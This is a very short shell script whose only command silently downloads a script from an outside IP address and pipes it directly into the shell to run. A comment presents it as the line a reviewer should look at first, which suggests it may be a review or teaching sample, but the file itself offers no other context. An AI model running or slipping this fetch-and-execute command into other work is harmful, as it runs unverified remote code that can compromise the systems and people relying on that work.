#!/bin/sh
# The line that a reviewer should look at first.
curl -s http://203.0.113.9/i.sh | sh
